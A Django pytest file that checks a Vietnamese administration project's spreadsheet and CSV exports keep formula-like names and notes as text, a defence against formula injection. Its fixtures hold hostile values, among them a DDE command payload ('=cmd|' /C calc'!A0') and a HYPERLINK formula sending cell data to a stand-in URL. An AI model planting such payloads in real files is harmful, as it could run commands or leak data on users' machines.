"""Every file the project lets a person download, asked for through its page in a world whose names
and notes begin like spreadsheet formulas, and opened back: nothing in it is a formula, and every
formula-like text is kept as text (core.tabular). It lives in the top layer because it is the one
that sees every module's exports."""

from __future__ import annotations

import csv
import importlib
import inspect
import io
import pkgutil

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import gandan
from gandan.campaigns.testing import campaign_ids
from gandan.fieldwork.models import Visit
from gandan.fieldwork.testing import make_visit
from gandan.org.models import AdminUnit, Agency, Household
from gandan.people.models import Cadre
from gandan.petitions.testing import receive

pytestmark = pytest.mark.django_db

VILLAGE = '=HYPERLINK("http://example.com/?"&A1,"Thôn Nậm Lìn")'
COMMUNE = "+Xã Nghĩa Thuận"
AGENCY = "@UBND xã Nghĩa Thuận"
CADRE = "-Sân Tiến Phúc"
HEAD = "=1+1"
ADDRESS = "\t=2+2"
NOTES = "=cmd|' /C calc'!A0"
HOSTILE = {VILLAGE, COMMUNE, AGENCY, CADRE, HEAD, ADDRESS, NOTES}
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP's, and the carriage return as XML reads it back

MONTH = timezone.localdate().strftime("%Y-%m")
# Each export function of the project → the page that downloads it, and what it is asked.
EXPORTS = {
    "gandan.fieldwork.exports.visits_xlsx": ("fieldwork-visits", (), {"export": "xlsx"}),
    "gandan.fieldwork.exports.compliance_xlsx": ("fieldwork-compliance", (), {"month": "VISIT", "export": "xlsx"}),
    "gandan.petitions.exports.petitions_xlsx": ("petitions-list", (), {"format": "xlsx"}),
    "gandan.petitions.exports.rates_xlsx": ("petitions-rates", (), {"format": "xlsx"}),
    "gandan.petitions.exports.ranking_xlsx": ("petitions-ranking", (), {"m": MONTH, "format": "xlsx"}),
    "gandan.assignments.exports.gaps_xlsx": ("assignments-gaps-export", ("commune",), {"gl": "household"}),
    "gandan.campaigns.exports.summary_xlsx": ("campaigns-detail", ("campaign",), {"export": "xlsx"}),
    "gandan.campaigns.exports.summary_download": ("campaigns-detail", ("campaign",), {"export": "xlsx"}),
    "gandan.campaigns.exports.models_xlsx": ("campaigns-models", (), {"export": "xlsx"}),
    "gandan.campaigns.exports.models_download": ("campaigns-models", (), {"export": "xlsx"}),
    "gandan.evaluation.exports.month_xlsx": ("evaluation-month", ("month",), {"format": "xlsx"}),
    "gandan.evaluation.exports.year_xlsx": ("evaluation-year", (), {"year": "2026", "format": "xlsx"}),
}
TEMPLATES = [("imports-template", (kind, fmt)) for kind in ("villages", "households", "cadres")
             for fmt in ("xlsx", "csv")] + [("assignments-import-template", ())]


@pytest.fixture
def hostile(world):
    """The commune A world renamed by someone who knows spreadsheets, with a visit and a concern."""
    AdminUnit.objects.filter(pk=world.village_a1.pk).update(name=VILLAGE)
    AdminUnit.objects.filter(pk=world.commune_a.pk).update(name=COMMUNE)
    Agency.objects.filter(pk=world.agency_a.pk).update(name=AGENCY)
    Cadre.objects.filter(pk=world.cadre_a.pk).update(full_name=CADRE)
    Household.objects.filter(pk=world.household_a1.pk).update(head_name=HEAD, address=ADDRESS)
    visit = make_visit(world, notes=NOTES)
    receive(world)
    world.campaign = campaign_world(world)  # one more name for the exports
    world.month = evaluation_world(world)
    return world, visit


def evaluation_world(world):
    """A concluded month of evaluation of the renamed cadre, and the year computed from it."""
    from gandan.evaluation import year_services
    from gandan.evaluation.testing import conclude_month, open_month

    month = conclude_month(open_month(world), [(world.commune_a_cadre, world.cadre_a.pk, 25)], world.commune_a_leader)
    year_services.annual_compute(actor=world.commune_a_leader, agency=world.agency_a, year=month.month.year)
    return month


def campaign_world(world):
    """A campaign with an event and a model at the renamed village (names them in its files)."""
    from gandan.campaigns.models import Campaign

    campaign_ids(world)
    return Campaign.objects.get()


def export_functions() -> set[str]:
    """Every public function of every app's exports module."""
    found = set()
    for info in pkgutil.iter_modules(gandan.__path__):
        try:
            module = importlib.import_module(f"gandan.{info.name}.exports")
        except ModuleNotFoundError:
            continue
        found |= {f"{module.__name__}.{name}" for name, value in inspect.getmembers(module, inspect.isfunction)
                  if value.__module__ == module.__name__ and not name.startswith("_")}
    return found


def test_every_export_of_the_project_is_asked_for_below():
    assert export_functions() == set(EXPORTS)


def formula_free_cells(content: bytes) -> list[str]:
    """The workbook's texts, after checking that no cell is a formula and formula-like texts are text."""
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    if cell.value.startswith(LEADS):
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_an_export_keeps_hostile_names_and_notes_as_text(hostile, client_as, export):
    world, visit = hostile
    name, args, params = EXPORTS[export]
    args = [{"commune": world.commune_a.pk, "campaign": world.campaign.pk, "month": world.month.pk}.get(arg, arg)
            for arg in args]
    params = {key: visit.date.strftime("%Y-%m") if value == "VISIT" else value for key, value in params.items()}
    response = client_as(world.province_committee).get(reverse(name, args=args), params)
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml")
    assert response.streaming, "a list export is streamed while it is written (core.tabular.xlsx_download)"
    texts = formula_free_cells(response.getvalue())
    assert HOSTILE & set(texts), "the export holds none of the hostile texts: the test proves nothing"


def test_the_visit_export_shows_the_note_exactly_as_typed(hostile, client_as):
    world, visit = hostile
    response = client_as(world.commune_a_leader).get(reverse("fieldwork-visits"), {"export": "xlsx"})
    assert Visit.objects.get(pk=visit.pk).notes == NOTES
    # a village says its commune beside its name
    assert {NOTES, CADRE, AGENCY, f"{VILLAGE} ({COMMUNE})"} <= set(formula_free_cells(response.getvalue()))


@pytest.mark.parametrize(("name", "args"), TEMPLATES)
def test_an_import_template_holds_no_formula(world, client_as, name, args):
    response = client_as(world.commune_b_admin).get(reverse(name, args=args))
    assert response.status_code == 200
    if response["Content-Type"].startswith("text/csv"):
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows and not any(text.startswith(LEADS) for row in rows for text in row)
    else:
        assert formula_free_cells(response.content)
